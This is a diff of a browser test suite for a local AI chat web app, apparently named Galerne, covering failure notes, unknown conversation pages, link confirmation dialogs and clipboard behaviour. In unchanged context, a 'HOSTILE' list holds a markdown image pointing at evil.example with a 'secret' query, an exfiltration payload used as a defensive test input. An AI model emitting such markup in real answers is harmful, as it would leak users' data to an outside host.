@@ -17,6 +17,8 @@ import {
 } from "./browser.mjs";
 import { startFakeServer } from "./fake-server.mjs";
 
+/** Everything here answers within a second or two. */
+const HANG_MS = 10_000;
 const FAILED_REQUEST = /^Failed to load resource/u;
 const HOSTILE = [
   "![pixel](https://evil.example/leak?q=secret)",
@@ -43,6 +45,7 @@ before(async () => {
   server = await startFakeServer({ dist: DIST, models: ["first-model", "second-model"] });
   browser = await launch();
   visitor = await openPage(browser, server.origin, { expected: [FAILED_REQUEST] });
+  visitor.page.setDefaultTimeout(HANG_MS);
 });
 
 after(async () => {
@@ -176,11 +179,11 @@ describe("an answer", () => {
 describe("a failure", () => {
   test("in the middle of an answer keeps the text and offers to try again", async () => {
     const { page } = visitor;
-    const note = await noteAfter("break");
-    assert.match(note, /connection to the server was lost.*is kept.*page\.interrupted/su);
+    const note = await noteAfter("fail");
+    assert.match(note, /model failed.*is kept.*engine\.failed/su);
     assert.match(await page.locator(".turn:last-child .block").innerText(), /^One two three/u);
     await checkAccessibility(page, "a broken answer");
-    await shoot(page, "interrupted-en-1440");
+    await shoot(page, "failed-en-1440");
   });
 
   test("with a known code has a text of its own", async () => {
@@ -197,14 +200,46 @@ describe("a failure", () => {
     );
   });
 
-  test("of the session asks to sign in on the spot and keeps the conversation", async () => {
+  test("of the address says so and offers a way on", async () => {
     const { page } = visitor;
-    const turns = await page.locator(".turn").count();
-    await noteAfter("session ends");
-    assert.ok(await page.locator(".turn:last-child").getByLabel("Link or token").isVisible());
-    assert.equal(await page.locator(".turn").count(), turns + 1);
-    await checkAccessibility(page, "an ended session");
+    const address = page.url();
+    await page.goto(`${server.origin}/c/conv_${"0".repeat(32)}`);
+    await page.getByRole("heading", { name: "No conversation at this address" }).waitFor();
+    await checkAccessibility(page, "an unknown conversation");
+    await page.goto(address);
+    await page.locator(".turn").first().waitFor();
   });
+});
+
+test("a keystroke renders no turn", async () => {
+  const { page } = visitor;
+  await page.evaluate(() => {
+    window.changes = 0;
+    const options = { childList: true, subtree: true, attributes: true, characterData: true };
+    const count = (records) => (window.changes += records.length);
+    new MutationObserver(count).observe(document.querySelector(".thread"), options);
+  });
+  await field(page).pressSequentially("typing");
+  assert.equal(await page.evaluate(() => window.changes), 0);
+  await field(page).fill("");
+});
+
+test("a link of an answer shows where it leads and asks first", async () => {
+  const { page } = visitor;
+  await ask(page, "say [the law](https://www.example.org/a?b=c#d)");
+  await page.locator(".turn:last-child .prov").waitFor();
+  const link = page.locator(".turn:last-child .block a");
+  for (const press of [() => link.click(), () => link.click({ button: "middle" })]) {
+    await press();
+    const dialog = page.getByRole("dialog", { name: "Leave Galerne?" });
+    await dialog.waitFor();
+    assert.match(await dialog.innerText(), /https:\/\/www\.example\.org\/a\?b=c#d/u);
+    const open = dialog.getByRole("link", { name: "Open in a new tab" });
+    assert.equal(await open.getAttribute("rel"), "noopener noreferrer");
+    await checkAccessibility(page, "a link that asks");
+    await page.keyboard.press("Escape");
+    await dialog.waitFor({ state: "detached" });
+  }
 });
 
 test("a model is chosen from the list", async () => {
@@ -239,7 +274,9 @@ test("with forced colours and reduced motion the page still works", async () => 
 
 test("a server without a model says how to install one", async () => {
   const bare = await startFakeServer({ dist: DIST, models: [] });
-  const { page, context, problems } = await openPage(browser, bare.origin);
+  const { page, context, problems } = await openPage(browser, bare.origin, {
+    expected: [FAILED_REQUEST],
+  });
   await page.goto(bare.link);
   await page.getByText("galerne model import").waitFor();
   await checkAccessibility(page, "no model");
@@ -251,13 +288,15 @@ test("a server without a model says how to install one", async () => {
 test("on a plain network address the page copies, and says when the network is gone", async () => {
   const foreign = await startFakeServer({ dist: DIST });
   const origin = `http://${FOREIGN_HOST}:${new URL(foreign.origin).port}`;
-  const { page, context, problems } = await openPage(browser, origin);
+  const { page, context, problems } = await openPage(browser, origin, {
+    expected: [FAILED_REQUEST],
+  });
   await page.goto(foreign.link.replace(foreign.origin, origin));
   await field(page).waitFor();
   assert.equal(await page.evaluate(() => window.isSecureContext), false);
   await ask(page, "say copied words");
   await page.getByRole("button", { name: "Copy the answer" }).click();
-  await page.getByRole("button", { name: "Copied" }).waitFor();
+  await page.getByRole("button", { name: "Copied", exact: true }).waitFor();
   await field(page).focus();
   await page.keyboard.press("Control+V");
   assert.equal(await field(page).inputValue(), "copied words");
